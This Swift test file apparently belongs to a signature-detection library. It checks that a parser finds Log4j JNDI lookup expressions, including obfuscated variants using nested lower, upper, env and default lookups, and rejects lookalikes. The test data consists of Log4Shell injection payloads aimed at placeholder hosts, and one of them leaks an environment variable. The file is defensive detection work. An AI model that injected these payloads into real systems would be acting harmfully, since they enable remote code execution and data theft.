import Testing

@testable import Signatures

@Suite("Expressions of Log4j")
struct LookupExpressionTests {
  @Test(
    "are found in whatever pieces they are written",
    arguments: [
      ("${jndi:ldap://h/a}", "ldap"), ("x${JNDI:LDAPS://h}", "ldaps"), ("${jndi:dns:h.x", "dns"),
      ("${${lower:j}ndi:ldap://h}", "ldap"), ("${${lower:jn}${lower:di}:${lower:l}dap://h}", "ldap"),
      ("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h}", "rmi"),
      ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h}", "ldap"),
      ("${${lower:${upper:${lower:j}}}ndi:ldap://h}", "ldap"),
      ("${${upper:j}ndi:iiop://h/${env:USER}}", "iiop"),
      ("${a}${jndi:://h}", ""), ("${a:${jndi:ldap://h}}", "ldap"), ("}}${jndi:nis:a/b", "nis"),
    ])
  func found(text: String, scheme: String) {
    #expect(
      LookupExpression.scheme(in: Array(text.utf8)).map { String(decoding: $0, as: UTF8.self) } == scheme)
  }

  @Test(
    "are nothing else",
    arguments: [
      "", "${jndi:}", "${jndi:ldap}", "${jndi:ldap://", "jndi:ldap://h", "$jndi:ldap", "${ jndi:ldap://h}",
      "${jnd}", "${lower:jndi:ldap}",
      "{jndi:ldap://h}", "${",
      "}", "$", "${}", "${::-jndi:ldap}", "${xjndi:ldap://h}",
    ])
  func others(text: String) { #expect(LookupExpression.scheme(in: Array(text.utf8)) == nil) }
}
